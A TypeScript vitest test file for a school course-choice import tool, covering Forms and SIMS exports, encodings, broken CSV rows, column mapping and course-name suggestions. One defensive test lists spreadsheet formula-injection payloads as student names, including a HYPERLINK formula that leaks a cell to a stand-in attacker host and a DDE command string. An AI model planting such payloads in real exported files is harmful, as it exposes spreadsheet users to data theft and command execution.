import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import type { Course, Pathway } from '../solver/types';
import {
  adaptMapping,
  checkStudentMapping,
  guessStudentMapping,
  importCourses,
  importStaff,
  importStudents,
  importStudentsFile,
  readCsvText,
  readTable,
  suggestCourses,
  type StudentImportResult,
} from '../data/io';

const dir = join(__dirname, 'fixtures', 'io');
const fixture = JSON.parse(readFileSync(join(dir, 'courses.json'), 'utf8')) as { courses: Course[]; pathways: Pathway[] };
const bytes = (name: string) => new Uint8Array(readFileSync(join(dir, name)));

async function importFixture(name: string, decisions = {}): Promise<StudentImportResult> {
  const table = await readTable(bytes(name), name);
  return importStudents(table, guessStudentMapping(table.headers), fixture, decisions);
}

const brief = (r: StudentImportResult) => r.issues.map((i) => [i.row, i.column, i.code, i.value]);

describe('Microsoft Forms export with free-text course names', () => {
  it('reads the clean rows and lists every other row with row, column and reason', async () => {
    const r = await importFixture('forms-export.csv');
    expect(r.rowsRead).toBe(7);
    expect(r.complete).toBe(false);
    expect(brief(r)).toEqual([
      [2, 'Second choice', 'unknown-course', 'Geog'],
      [3, 'Third choice', 'unknown-course', 'D&T'],
      [4, 'First choice', 'unknown-course', 'Spansh'],
      [5, 'Student ID', 'missing-id', ''],
      [5, 'Second choice', 'unknown-course', 'Computer Sci'],
      [6, 'First choice', 'unknown-course', 'GCSE History'],
      [6, 'Second choice', 'unknown-course', 'Astronomy'],
      [8, 'Fourth choice', 'repeated-course', 'Art'],
    ]);
    // Ben sent the form twice: the later submission (row 7) is kept unless the user says otherwise, and
    // both rows are listed in full with their times.
    expect(r.notices.map((i) => [i.row, i.code, i.decided])).toEqual([
      [3, 'duplicate-id', true],
      [7, 'duplicate-id', true],
    ]);
    expect(r.notices[0].message).toContain('also on row 7 (sent 3/1/27 9:33:10)');
    expect(r.duplicates).toHaveLength(1);
    expect(r.duplicates[0]).toMatchObject({ id: 'S1002', later: 7 });
    expect(r.duplicates[0].rows.map((x) => [x.row, x.timestamp, x.kept])).toEqual([
      [3, '3/1/27 9:09:03', false],
      [7, '3/1/27 9:33:10', true],
    ]);
    expect(r.duplicates[0].rows[0].cells).toContainEqual(['Third choice', 'D&T']);
    expect(r.skippedRows).toEqual([3]);
    expect(r.pending).toEqual([2, 4, 5, 6, 8]);
    expect(r.students.map((x) => x.id)).toEqual(['S1002']);
    const geog = r.issues[0];
    expect(geog.message).toBe(
      'Row 2, column "Second choice": "Geog" is not a course in this scenario. Maybe Geography (GEO)? Choose the course it means, or keep the row without this choice.',
    );
    expect(geog.suggestions?.[0]).toMatchObject({ courseId: 'GEO', why: 'abbreviation' });
    // "None" as a reserve means no reserve: ignored, not an issue.
    expect(r.courseTexts.find((t) => t.text === 'None')?.how).toBe('ignored');
  });

  it('near misses become matches once the user confirms them, and row decisions settle the rest', async () => {
    const aliases = { geog: 'GEO', 'd and t': 'DT', spansh: 'SPA', 'computer sci': 'CSC', 'gcse history': 'HIS' };
    const r = await importFixture('forms-export.csv', {
      courseAliases: aliases,
      rows: {
        3: { action: 'skip' }, // the first of Ben's two submissions
        5: { action: 'keep', id: 'S1004' }, // Dev signed in without an id; the user knows it
        6: { action: 'keep' }, // Ellie without "Astronomy"
        8: { action: 'keep' }, // Farah without the repeated Art
      },
    });
    expect(r.complete).toBe(true);
    expect(r.skippedRows).toEqual([3]);
    expect(r.issues.filter((i) => !i.decided)).toEqual([]);
    expect(r.students).toEqual([
      { id: 'S1001', name: 'Amara Okafor', choices: ['HIS', 'GEO', 'FRE', 'ART'], reserves: ['BUS'], attributes: { tutorGroup: '9KA' } },
      { id: 'S1003', name: 'Chloe Nguyen', choices: ['SPA', 'GEO', 'ART', 'MUS'], reserves: ['DRA'], attributes: { tutorGroup: '9MS' } },
      { id: 'S1004', name: 'Dev Patel', choices: ['TRI', 'CSC', 'HIS', 'GEO'], attributes: { tutorGroup: '9MS' } },
      { id: 'S1005', name: 'Ellie Price', choices: ['HIS', 'FRE', 'DRA'], reserves: ['RS'], attributes: { tutorGroup: '9RT' } },
      { id: 'S1002', name: 'Ben Hughes', choices: ['CSC', 'HIS', 'DT', 'PE'], reserves: ['BUS'], attributes: { tutorGroup: '9KA' } },
      { id: 'S1007', name: 'Farah Ali', choices: ['HSC', 'FOOD', 'ART'], reserves: ['MUS'], attributes: { tutorGroup: '9RT' } },
    ]);
  });

  it('a row skipped for sharing an id stays listed (decided) so the user can change their mind; the row kept is settled', async () => {
    const r = await importFixture('forms-export.csv', { rows: { 3: { action: 'skip' } } });
    const dup = r.issues.filter((i) => i.code === 'duplicate-id');
    expect(dup.map((i) => [i.row, i.decided])).toEqual([[3, true]]);
    expect(dup[0].message).toMatch(/also on row 7/);
    expect(r.skippedRows).toEqual([3]);
    expect(r.pending).not.toContain(7);
    expect(r.students.some((s) => s.id === 'S1002')).toBe(true);
  });

  it('keeping both rows (for their other problems) does not choose between them: the later is still the one kept', async () => {
    const r = await importFixture('forms-export.csv', { rows: { 3: { action: 'keep' }, 7: { action: 'keep' } } });
    expect(r.issues.filter((i) => i.code === 'duplicate-id')).toEqual([]);
    expect(r.skippedRows).toEqual([3]);
    expect(r.pending).not.toContain(7);
  });

  it('without times that tell which is later, the user chooses; keeping both rows leaves the issue open', () => {
    const table = readCsvText('Adno,Name,Option 1\r\n1,Ann Lee,History\r\n2,Bob Ray,History\r\n1,Ann Lee,Geography\r\n');
    const m = guessStudentMapping(table.headers);
    const open = importStudents(table, m, fixture);
    expect(open.duplicates).toMatchObject([{ id: '1', later: null }]);
    expect(open.duplicates[0].rows.map((x) => x.kept)).toEqual([false, false]);
    expect(open.issues.filter((i) => i.code === 'duplicate-id').map((i) => [i.row, i.decided])).toEqual([
      [2, false],
      [4, false],
    ]);
    const both = importStudents(table, m, fixture, { rows: { 2: { action: 'keep' }, 4: { action: 'keep' } } });
    expect(both.issues.filter((i) => i.code === 'duplicate-id').map((i) => i.decided)).toEqual([false, false]);
    expect(both.pending).toEqual([2, 4]);
    const one = importStudents(table, m, fixture, { rows: { 2: { action: 'skip' } } });
    expect(one.complete).toBe(true);
    expect(one.students.map((x) => [x.id, x.choices])).toEqual([
      ['2', ['HIS']],
      ['1', ['GEO']],
    ]);
  });
});

describe('SIMS-like MIS export with extra columns and a title above the header', () => {
  const who = (adno: string, upn: string, forename: string, surname: string, reg: string) => ({ id: adno, name: `${forename} ${surname}`, surname, forename, upn, admissionNumber: adno, regGroup: reg });
  const expected = [
    { ...who('002001', 'A123456789012', 'Grace', 'Adams', '9A'), choices: ['HIS', 'FRE', 'ART', 'CSC'], reserves: ['GEO', 'MUS'], pathway: 'EB', attributes: { gender: 'F', pp: false, sen: 'N', eal: false, prior: 'High' } },
    { ...who('002002', 'A123456789013', 'Oliver', 'Brown', '9A'), choices: ['BUS', 'PE', 'DT', 'HSC'], reserves: ['DRA'], pathway: 'VOC', attributes: { gender: 'M', pp: true, sen: 'K', eal: false, prior: 'Middle' } },
    { ...who('002003', 'A123456789014', 'Isla', 'Clarke', '9B'), choices: ['ART', 'FOOD', 'HSC', 'MUS'], pathway: 'VOC', attributes: { gender: 'F', pp: false, sen: 'N', eal: true, prior: 'Low' } },
    { ...who('002004', 'A123456789015', 'Noah', 'Davies', '9B'), choices: ['TRI', 'SPA', 'HIS', 'CSC'], reserves: ['GEO'], pathway: 'EB', attributes: { gender: 'M', pp: true, sen: 'E', eal: false, prior: 'High' } },
  ];

  it('finds the header on row 4, maps the known columns and ignores address and date of birth', async () => {
    const table = await readTable(bytes('sims-export.csv'), 'sims-export.csv');
    expect(table.headerRow).toBe(4);
    const m = guessStudentMapping(table.headers);
    expect(m).toMatchObject({
      id: 'Adno',
      firstName: 'Legal Forename',
      lastName: 'Legal Surname',
      admissionNumber: 'Adno',
      upn: 'UPN',
      regGroup: 'Reg',
      pathway: 'Pathway',
      choices: ['Option 1', 'Option 2', 'Option 3', 'Option 4'],
      reserves: ['Reserve 1', 'Reserve 2'],
    });
    expect(m.attributes.map((a) => [a.column, a.name])).toEqual([
      ['Gender', 'gender'],
      ['PP', 'pp'],
      ['SEN', 'sen'],
      ['EAL', 'eal'],
      ['KS2 Band', 'prior'],
    ]);
    expect(checkStudentMapping(m, table.headers)).toEqual([]);
    const r = importStudents(table, m, fixture);
    expect(r.attributeTypes).toEqual({ gender: 'text', pp: 'yes/no', sen: 'text', eal: 'yes/no', prior: 'text' });
    expect(r.students).toEqual(expected);
    expect(brief(r)).toEqual([
      [9, 'Option 4', 'unknown-course', 'GEOG'],
      [10, 'Pathway', 'unknown-pathway', 'Sport route'],
    ]);
    expect(r.issues[1].message).toContain('its pathways are EB, VOC');
  });

  it('reads the same students from the .xlsx export (header on row 3, dates as cells)', async () => {
    const table = await readTable(bytes('sims-export.xlsx'), 'sims-export.xlsx');
    expect(table.format).toBe('xlsx');
    expect(table.sheet).toBe('Options');
    expect(table.headerRow).toBe(3);
    expect(table.rows[0][table.headers.indexOf('DOB')]).toBe('2013-02-14');
    const r = importStudents(table, guessStudentMapping(table.headers), fixture);
    expect(r.students).toEqual(expected);
    expect(brief(r)).toEqual([
      [8, 'Option 4', 'unknown-course', 'GEOG'],
      [9, 'Pathway', 'unknown-pathway', 'Sport route'],
    ]);
  });
});

describe('encodings', () => {
  it('reads a UTF-8 file with a byte-order mark, semicolons and one choices column', async () => {
    const table = await readTable(bytes('bom.csv'), 'bom.csv');
    expect(table.encoding).toBe('utf-8-bom');
    expect(table.delimiter).toBe(';');
    expect(table.headers[0]).toBe('Student ID'); // no BOM glued to the first header
    const m = guessStudentMapping(table.headers);
    expect(m.choicesList).toBe('Choices');
    expect(m.reservesList).toBe('Reserves');
    const r = importStudents(table, m, fixture);
    expect(r.issues).toEqual([]);
    expect(r.students).toEqual([
      { id: 'B01', name: 'Zoë Brontë', forename: 'Zoë', surname: 'Brontë', choices: ['HIS', 'GEO', 'FRE', 'ART'], reserves: ['MUS'], attributes: { tutorGroup: '9X' } },
      { id: 'B02', name: 'Siân Llewelyn-Jones', forename: 'Siân', surname: 'Llewelyn-Jones', choices: ['SPA', 'CSC', 'DRA', 'BUS'], attributes: { tutorGroup: '9X' } },
      { id: 'B03', name: 'Łukasz Wiśniewski', forename: 'Łukasz', surname: 'Wiśniewski', choices: ['TRI', 'HIS', 'GEO', 'PE'], reserves: ['RS', 'MUS'], attributes: { tutorGroup: '9Y' } },
    ]);
  });

  it('reads a Windows-1252 file as Excel writes it, curly apostrophe included', async () => {
    const raw = bytes('windows-1252.csv');
    expect(raw.includes(0x92)).toBe(true); // the fixture really is Windows-1252, not UTF-8
    const table = await readTable(raw, 'windows-1252.csv');
    expect(table.encoding).toBe('windows-1252');
    const r = importStudents(table, guessStudentMapping(table.headers), fixture, { rows: { 2: { action: 'keep' } } });
    expect(r.students.map((s) => s.name)).toEqual(['Chloë Dubois', 'José García', 'Siobhán O’Brien', 'Renée Müller']);
    expect(brief(r)).toEqual([[2, 'Choice 1', 'unknown-course', 'Français']]);
    expect(r.students[0].choices).toEqual(['HIS', 'ART', 'MUS']);
  });
});

describe('formula-looking names', () => {
  it('are read as plain text (an escaped one loses its apostrophe)', async () => {
    const r = await importFixture('formula-names.csv');
    expect(r.issues).toEqual([]);
    expect(r.students.map((s) => s.name)).toEqual([
      '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
      '+44 7700 900123',
      '-Smith',
      "@SUM(1+1)*cmd|' /C calc'!A0",
      'Tabby Tab',
      '=already escaped',
    ]);
  });
});

describe('files that cannot be read at all', () => {
  it('says what to do with an old .xls workbook, an empty file and a binary file', async () => {
    await expect(readTable(new Uint8Array([0xd0, 0xcf, 0x11, 0xe0, 1, 2]), 'choices.xls')).rejects.toThrow(/Excel 97-2003.*Save As/);
    await expect(readTable(new Uint8Array([]), 'x.csv')).rejects.toThrow(/empty/);
    await expect(readTable(new Uint8Array([0x41, 0, 0x42, 0]), 'x.csv')).rejects.toThrow(/binary/);
    await expect(readTable(new Uint8Array([0x50, 0x4b, 0x03, 0x04, 0, 0, 0]), 'x.xlsx')).rejects.toThrow(/could not be read as an Excel .xlsx/);
  });

  it('reports a row whose quote never closes, and cells beyond the last header', () => {
    const table = readCsvText('Student ID,Choice 1,Choice 2\nS1,HIS,GEO,ART\nS2,"HIS,GEO\n');
    const r = importStudents(table, guessStudentMapping(table.headers), fixture);
    expect(r.issues.map((i) => [i.row, i.column, i.code])).toEqual([
      [2, '', 'extra-cells'],
      [3, 'Choice 1', 'unreadable-row'],
    ]);
    expect(r.issues[0].message).toContain('"ART"');
    expect(r.issues[1].message).toMatch(/^Row 3, column "Choice 1": a double quote .*the cell reads: "HIS\)/);
    expect(r.issues[1].value).toBe('"HIS');
  });

  it('a stray quote does not swallow the rows after it: each is read as its own row', () => {
    // Without recovery every CSV reader runs S3..S5 into S2's name cell (up to the next quote).
    const csv = 'Student ID,Name,Choice 1,Choice 2\r\nS1,Ann,HIS,GEO\r\nS2,"Bob Smith,HIS,GEO\r\nS3,Cy "Kid,FRE,ART\r\nS4,"Di ""D"" Lee",HIS,ART\r\nS5,"Ed,GEO,FRE\r\nS6,"Flo\r\nJones",HIS,GEO\r\n';
    const table = readCsvText(csv);
    expect(table.rows.map((r) => r[0])).toEqual(['S1', 'S2', 'S3', 'S4', 'S5', 'S6']);
    expect(table.rowNumbers).toEqual([2, 3, 4, 5, 6, 7]);
    // A proper quoted cell with a line break and doubled quotes stays one cell.
    expect(table.rows[3][1]).toBe('Di "D" Lee');
    expect(table.rows[5][1]).toBe('Flo\r\nJones');
    const r = importStudents(table, guessStudentMapping(table.headers), fixture);
    expect(r.issues.map((i) => [i.row, i.column, i.code, i.value])).toEqual([
      [3, 'Name', 'unreadable-row', '"Bob Smith'],
      // Straight after a stray quote and with a quote of its own: flagged in case the two rows are one cell.
      [4, 'Name', 'unreadable-row', 'Cy "Kid'],
      [6, 'Name', 'unreadable-row', '"Ed'],
    ]);
    expect(r.pending).toEqual([3, 4, 6]);
    expect(r.students.map((s) => s.id)).toEqual(['S1', 'S4', 'S6']);
    const kept = importStudents(table, guessStudentMapping(table.headers), fixture, { rows: { 3: { action: 'keep' }, 4: { action: 'keep' }, 6: { action: 'keep' } } });
    expect(kept.complete).toBe(true);
    expect(kept.students.find((s) => s.id === 'S2')).toEqual({ id: 'S2', name: '"Bob Smith', choices: ['HIS', 'GEO'] });
  });
});

describe('mapping', () => {
  it('recognises ordinal choice headers and a single reserve column', () => {
    const m = guessStudentMapping(['Pupil ID', 'Full name', '2nd choice', '1st choice', 'Third choice', 'Reserve', 'Form']);
    expect(m).toMatchObject({ id: 'Pupil ID', name: 'Full name', choices: ['1st choice', '2nd choice', 'Third choice'], reserves: ['Reserve'], tutorGroup: 'Form' });
  });

  it('a remembered mapping survives moved columns and reports the ones gone', () => {
    const saved = { ...guessStudentMapping(['Adno', 'Name', 'Reg', 'Option 1', 'Option 2']), attributes: [{ column: 'Band', name: 'prior', type: 'text' as const }] };
    const { mapping, missing } = adaptMapping(saved, ['Option 2', 'Name', 'Option 1', 'Adno', 'Tutor group']);
    expect(mapping).toMatchObject({ id: 'Adno', name: 'Name', choices: ['Option 1', 'Option 2'], tutorGroup: 'Tutor group', attributes: [] });
    expect(missing).toEqual(['Reg', 'Band']);
  });

  it('names what is wrong with an unusable mapping', () => {
    const problems = checkStudentMapping({ choices: ['A', 'A'], reserves: [], attributes: [] }, ['A']);
    expect(problems[0]).toMatch(/student's id/);
    expect(problems).toContain('Column "A" is mapped 2 times. Each column can hold one thing.');
  });
});

describe('near misses', () => {
  it.each([
    ['Geog', 'GEO'],
    ['Histroy', 'HIS'],
    ['D&T', 'DT'],
    ['DT', 'DT'],
    ['RS', 'RS'],
    ['Comp Sci', 'CSC'],
    ['Triple sci', 'TRI'],
    ['Food Tech', 'FOOD'],
    ['BTEC Health and Social Care', 'HSC'],
    ['Spainsh', 'SPA'],
  ])('%s -> %s first', (text, id) => {
    expect(suggestCourses(text, fixture.courses)[0]?.courseId).toBe(id);
  });

  it('suggests nothing for a course that is not on offer', () => {
    expect(suggestCourses('Astronomy', fixture.courses)).toEqual([]);
  });
});

describe('course and staff lists', () => {
  it('imports a course list with kinds, lists and a missing size', () => {
    const table = readCsvText(
      'Code,Subject,Qualification,Class size,Min size,Blocks,Years,Tags\n' +
        'HIS,History,GCSE,30,10,A; B,,humanity; ebacc\n' +
        'STA,Statistics,gcse,28,,C,Y10,\n' +
        'HSC,Health and Social Care,Btec,,,,,\n' +
        'ENG,Engineering,Diploma,20,,,,\n',
    );
    const r = importCourses(table);
    expect(r.columns).toMatchObject({ id: 'Code', name: 'Subject', kind: 'Qualification', maxGroupSize: 'Class size', minGroupSize: 'Min size' });
    expect(r.items).toEqual([
      { id: 'HIS', name: 'History', kind: 'GCSE', maxGroupSize: 30, minGroupSize: 10, blocks: ['A', 'B'], tags: ['humanity', 'ebacc'] },
      { id: 'STA', name: 'Statistics', kind: 'GCSE', maxGroupSize: 28, blocks: ['C'], years: [10] },
    ]);
    expect(r.issues.map((i) => [i.row, i.column, i.code])).toEqual([
      [4, 'Class size', 'bad-value'],
      [5, 'Qualification', 'bad-value'],
    ]);
    expect(r.issues[1].message).toMatch(/"Diploma" is not one of GCSE, BTEC/);
    const kept = importCourses(table, { rows: { 4: { action: 'keep' }, 5: { action: 'keep' } } });
    expect(kept.complete).toBe(true);
    expect(kept.items.map((c) => [c.id, c.maxGroupSize, c.kind])).toEqual([
      ['HIS', 30, 'GCSE'],
      ['STA', 28, 'GCSE'],
      ['HSC', 30, 'BTEC'],
      ['ENG', 20, undefined],
    ]);
  });

  it('imports a staff list, matching course names and checking blocks', () => {
    const table = readCsvText('Staff code,Teacher,Subjects,Max groups,Unavailable\nJS,J Smith,History; Geog,4,A; C Y11\nPK,P Khan,FRE,,Z\n');
    const r = importStaff(table, { courses: fixture.courses, blocks: ['A', 'B', 'C', 'D'] }, { courseAliases: { geog: 'GEO' } });
    expect(r.items).toEqual([{ id: 'JS', name: 'J Smith', courses: ['HIS', 'GEO'], maxGroups: 4, unavailable: [{ block: 'A' }, { block: 'C', year: 11 }] }]);
    expect(r.issues.map((i) => [i.row, i.column, i.code, i.value])).toEqual([[3, 'Unavailable', 'bad-value', 'Z']]);
  });
});

describe('speed path', () => {
  it('importStudentsFile reads bytes, maps and returns the table with the result', async () => {
    const r = await importStudentsFile(bytes('bom.csv'), 'bom.csv', guessStudentMapping(['Student ID', 'Forename', 'Surname', 'Form', 'Choices', 'Reserves']), fixture);
    expect(r.students).toHaveLength(3);
    expect(r.table.rows).toHaveLength(3);
  });
});
